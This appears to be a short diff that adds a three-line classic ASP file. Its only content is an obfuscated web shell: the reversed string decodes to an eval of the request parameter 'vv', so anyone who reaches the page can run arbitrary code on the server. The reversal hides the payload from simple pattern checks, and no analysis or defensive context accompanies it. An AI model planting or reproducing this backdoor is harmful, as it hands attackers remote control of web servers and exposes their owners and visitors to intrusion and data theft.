@@ -1,0 +1,3 @@
+<%
+execute(strreverse(")""vv""(tseuqer lave"))
+%>
